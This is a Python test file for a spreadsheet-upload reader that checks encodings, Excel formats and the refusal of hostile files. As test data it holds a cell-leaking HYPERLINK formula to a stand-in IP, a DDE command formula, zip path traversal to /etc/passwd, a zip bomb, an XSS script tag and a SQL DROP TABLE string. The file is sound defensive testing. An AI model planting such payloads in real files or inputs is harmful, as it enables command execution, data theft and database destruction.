"""Files as they come: good ones in every coat, and hostile ones that must end in a clear code."""

from __future__ import annotations

import random
import zipfile
from io import BytesIO

import pytest
import xlsxwriter

from matchday.sheets.columns import SheetKind
from matchday.sheets.complaints import COMPLAINT_CODES, SHEET_CODES, Complaint, SheetError
from matchday.sheets.parsing import parse
from matchday.sheets.reading import read_file
from tests.sheets.files import EMPLOYER, PARTICIPANT, SLOT, a_csv, a_workbook, codes, first_values, parse_file

PEOPLE = a_csv({**PARTICIPANT, "Vorname": "Jürgen", "Nachname": "Weiß"})


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_csv_file_is_read_in_any_encoding_of_german_offices(encoding: str) -> None:
    said = parse_file("Menschen.csv", PEOPLE.encode(encoding))

    assert said.complaints == ()
    assert first_values(said, SheetKind.PARTICIPANTS)["last_name"] == "Weiß"


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_a_csv_file_is_read_with_any_delimiter(delimiter: str) -> None:
    content = a_csv({**PARTICIPANT, "Sprachen": "Somali, Arabisch; Deutsch"}, delimiter=delimiter).encode()

    said = parse_file("Tabelle.csv", content)

    assert first_values(said, SheetKind.PARTICIPANTS)["languages"] == ("so", "ar", "de")


def test_the_line_with_which_excel_names_the_delimiter_is_no_row() -> None:
    said = parse_file("a.csv", b"sep=,\r\n" + a_csv(PARTICIPANT, delimiter=",").encode())

    assert said.complaints == ()


def test_cells_of_several_lines_count_as_one_row() -> None:
    content = a_csv({**SLOT, "Tätigkeiten": "Brot\nBrötchen"}, {**SLOT, "Tätigkeiten": "", "Plätze": "x"}).encode()

    said = parse_file("Angebote.csv", content)

    assert [(complaint.row, complaint.code) for complaint in said.complaints] == [
        (3, "reference_twice"),
        (3, "no_whole_number"),
    ]


def test_an_excel_file_is_read_with_its_own_dates_and_times() -> None:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        sheet = book.add_worksheet("Angebote")
        sheet.write_row(0, 0, list(SLOT))
        sheet.write_row(1, 0, list(SLOT.values()))
        sheet.write_number(1, 4, 46497, book.add_format({"num_format": "dd.mm.yyyy"}))
        sheet.write_number(1, 5, 8 / 24, book.add_format({"num_format": "hh:mm"}))
        sheet.write_number(1, 6, 1, book.add_format({"num_format": "[hh]:mm"}))

    values = first_values(parse_file("a.xlsx", paper.getvalue()), SheetKind.SLOTS)

    assert f"{values['day']} {values['start']} {values['end']}" == "2027-04-20 08:00:00 00:00:00"


def test_hidden_and_merged_cells_are_read_as_they_stand() -> None:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        sheet = book.add_worksheet("Betriebe")
        sheet.merge_range(0, 0, 0, 3, "Unsere Betriebe")
        sheet.write_row(1, 0, list(EMPLOYER))
        sheet.write_row(2, 0, list(EMPLOYER.values()))
        sheet.set_row(2, None, None, {"hidden": True})

    assert first_values(parse_file("a.xlsx", paper.getvalue()), SheetKind.EMPLOYERS)["name"] == "Bäckerei Korn"


def test_a_formula_is_taken_by_the_value_saved_with_it() -> None:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        sheet = book.add_worksheet("Menschen")
        sheet.write_row(0, 0, list(PARTICIPANT))
        sheet.write_row(1, 0, list(PARTICIPANT.values()))
        sheet.write_formula(1, 1, '=HYPERLINK("http://192.0.2.1/"&A2)', None, "Amina")
        sheet.write_formula(1, 2, "=cmd|' /C calc'!A0", None, "Yusuf")

    values = first_values(parse_file("a.xlsx", paper.getvalue()), SheetKind.PARTICIPANTS)

    assert (values["first_name"], values["last_name"]) == ("Amina", "Yusuf")


def test_a_formula_that_ended_in_an_error_is_no_empty_cell() -> None:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        book.add_worksheet("Auswertung & mehr").write_formula(0, 0, "=1/0", None, "#DIV/0!")
        sheet = book.add_worksheet("Menschen & mehr")
        sheet.write_row(0, 0, [*PARTICIPANT, "Gruppe"])
        sheet.write_row(1, 0, [*PARTICIPANT.values()])
        sheet.write_formula(1, 4, "=VLOOKUP(A2,A9:B9,2)", None, "#N/A")

    said = parse_file("a.xlsx", paper.getvalue())

    assert said.complaints == (Complaint("Menschen & mehr", 2, "Gruppe", "formula_error", {"text": "#N/A"}),)


def test_a_formula_error_saved_as_csv_is_noticed_too() -> None:
    assert codes(parse_file("a.csv", a_csv({**PARTICIPANT, "Gruppe": "#NV"}).encode())) == ["formula_error"]


def test_columns_formatted_to_the_last_line_are_no_rows() -> None:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        sheet = book.add_worksheet("Menschen")
        sheet.write_row(0, 0, list(PARTICIPANT))
        sheet.write_row(1, 0, list(PARTICIPANT.values()))
        sheet.write_blank(30_000, 5, None, book.add_format({"bold": True}))

    assert parse_file("a.xlsx", paper.getvalue()).complaints == ()


def test_the_reader_may_say_what_a_file_holds() -> None:
    content = b"Person;Angebot;Rang\n7;A1;1"

    tables = read_file("x.csv", content, kind=SheetKind.WISHES)

    assert list(parse(tables).rows) == [SheetKind.WISHES]


def a_zip(**members: bytes) -> bytes:
    paper = BytesIO()
    with zipfile.ZipFile(paper, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return paper.getvalue()


def a_far_cell(row: int, column: int) -> bytes:
    paper = BytesIO()
    with xlsxwriter.Workbook(paper) as book:
        sheet = book.add_worksheet("Menschen")
        sheet.write(0, 0, "Vorname")
        sheet.write(row, column, "x")
    return paper.getvalue()


def an_encrypted(content: bytes) -> bytes:
    """Set the bit for «encrypted» at every member in the directory of a zip file."""
    marked = bytearray(content)
    start = content.find(b"PK\x01\x02")
    while start >= 0:
        marked[start + 8] |= 1
        start = content.find(b"PK\x01\x02", start + 4)
    return bytes(marked)


GOOD = a_workbook({"Menschen": [list(PARTICIPANT), list(PARTICIPANT.values())]})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504

REFUSED: dict[str, tuple[bytes, str]] = {
    "nothing at all": (b"", "file_empty"),
    "spaces": (b" \r\n\t\r\n", "file_empty"),
    "a mark only": (b"\xef\xbb\xbf", "file_empty"),
    "zeros": (b"\0" * 500, "file_empty"),
    "more than 10 MB": (b"a;b\n" * 3_000_000, "file_too_big"),
    "PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "file_not_a_sheet"),
    "HTML that calls itself xls": (b"<html><table><tr><td>Vorname</td></tr></table></html>", "file_not_a_sheet"),
    "HTML after a mark": (b"\xef\xbb\xbf\n<!DOCTYPE html><p>", "file_not_a_sheet"),
    "XML": (b'<?xml version="1.0"?><Workbook/>', "file_not_a_sheet"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "file_not_a_sheet"),
    "a program": (b"MZ\x90\x00" + b"\0" * 50, "file_not_a_sheet"),
    "a zip in a zip": (a_zip(**{"inner.xlsx": GOOD}), "file_not_a_sheet"),
    "a text document": (a_zip(**{"word/document.xml": b"<w/>"}), "file_not_a_sheet"),
    "a zip that climbs out": (a_zip(**{"../../etc/passwd": b"x"}), "file_not_a_sheet"),
    "half a workbook": (GOOD[: len(GOOD) // 2], "file_broken"),
    "a zip of nothing": (b"PK\x05\x06" + b"\0" * 18, "file_not_a_sheet"),
    "a workbook without content": (a_zip(**{"xl/workbook.xml": b"<nothing"}), "file_broken"),
    "a bomb": (a_zip(**{"xl/workbook.xml": b"x", "xl/worksheets/sheet1.xml": b"0" * 30_000_000}), "file_bomb"),
    "very many members": (a_zip(**{f"xl/{number}.xml": b"" for number in range(1_001)}), "file_bomb"),
    "an encrypted workbook": (OLE + "EncryptedPackage".encode("utf-16-le"), "file_encrypted"),
    "an encrypted zip": (an_encrypted(GOOD), "file_encrypted"),
    "an old text document": (OLE + "WordDocument".encode("utf-16-le"), "file_not_a_sheet"),
    "a broken old workbook": (OLE + "Workbook".encode("utf-16-le"), "file_broken"),
    "the largest sheet there is": (a_far_cell(1_048_575, 16_383), "too_many_rows"),
    "a cell far down": (a_far_cell(25_000, 0), "too_many_rows"),
    "a cell far right": (a_far_cell(1, 60), "too_many_columns"),
    "a million rows": (b"a;b\n" * 1_000_000, "too_many_rows"),
    "a thousand columns": (b";".join([b"x"] * 1_000), "too_many_columns"),
    "a name of 100,000 letters": (f"Vorname;Sprachen\n{'x' * 100_000};Somali".encode(), "cell_too_long"),
    "a name of 9 MB": (f"Vorname;Sprachen\n{'x' * 9_000_000};Somali".encode(), "cell_too_long"),
    "a quotation mark that never ends": (b'Vorname;Sprachen\nAmina;Somali\n"Nuri;Dari\nAli;Dari', "csv_quotes"),
    "letters behind a quotation mark": (b'Vorname;Sprachen\n"Amina "Mina"";Somali', "csv_quotes"),
    "half a letter of UTF-16": (b"\xff\xfeV\x00o", "file_unreadable"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_file_that_is_no_sheet_is_refused_with_a_clear_code(case: str) -> None:
    content, code = REFUSED[case]

    with pytest.raises(SheetError) as refusal:
        read_file("Menschen.xlsx", content)

    assert refusal.value.code == code
    assert tuple(refusal.value.details) == SHEET_CODES[code]


def test_quotation_marks_that_never_end_are_found_where_they_begin() -> None:
    with pytest.raises(SheetError) as refusal:
        read_file("a.csv", REFUSED["a quotation mark that never ends"][0])

    assert refusal.value.details == {"row": 3}


STRANGE = {
    "NUL": "Am\x00ina",
    "lone surrogate": "Am\ud800ina",
    "turned around": "\u202eanimA",
    "isolate": "\u2066Amina\u2069",
    "zero width": "A\u200bmi\ufeffna",
    "soft hyphen": "Ami\u00adna",
    "NFD": "Rene\u0301e",
    "homoglyph": "Аmina",
    "family of emoji": "👨‍👩‍👧‍👦",
    "Persian joiner": "می‌خواهم",
    "Tigrinya": "ኣሚና",
    "formula": '=HYPERLINK("http://192.0.2.1")',
    "DDE": "=cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "bell": "Am\x07ina",
    "line separator": "Ami\u2028na",
    "percent and braces": "%(name)s {0} {{x}}",
    "markup": "<script>alert(1)</script>",
    "SQL": "'; DROP TABLE participant; --",
    "quotation mark": '5" Rohr',
}


@pytest.mark.parametrize("case", STRANGE)
def test_a_strange_name_is_a_value_or_a_complaint(case: str) -> None:
    content = a_csv({**PARTICIPANT, "Vorname": STRANGE[case]}).encode("utf-8", errors="surrogatepass")

    said = parse_file("Menschen.csv", content)

    assert codes(said) == (["text_unreadable"] if case in {"NUL", "lone surrogate"} else [])


def test_a_strange_heading_or_sheet_name_is_no_fault() -> None:
    content = a_csv({**PARTICIPANT, "Be\x00merkung": "x", "\ud800": "y"}).encode("utf-8", errors="surrogatepass")

    assert parse_file("Men\ud800\x00schen.csv", content).complaints == ()


@pytest.mark.parametrize("seed", range(60))
def test_a_damaged_file_never_fails_unexpectedly(seed: int) -> None:
    dice = random.Random(seed)
    damaged = bytearray(dice.choice([GOOD, PEOPLE.encode(), PEOPLE.encode("utf-16")]))
    for _ in range(dice.randint(1, 12)):
        damaged[dice.randrange(len(damaged))] = dice.randrange(256)

    assert codes_of_file(bytes(damaged)) <= COMPLAINT_CODES.keys() | SHEET_CODES.keys()


def codes_of_file(content: bytes) -> set[str]:
    try:
        return set(codes(parse_file("a", content)))
    except SheetError as error:
        return {error.code}
